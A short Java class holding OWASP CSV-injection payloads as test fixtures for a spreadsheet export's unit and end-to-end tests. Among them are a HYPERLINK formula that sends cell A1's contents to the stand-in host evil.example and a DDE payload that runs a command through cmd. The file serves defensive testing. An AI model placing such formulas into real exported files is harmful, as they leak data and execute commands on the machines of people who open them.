package cl.zeues.occupation.sheets;

/** OWASP CSV-injection payloads, for the unit test here and the projector's end-to-end test. */
public final class FormulaPayloads {

  public static final String[] PAYLOADS = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1"
  };

  private FormulaPayloads() {}
}
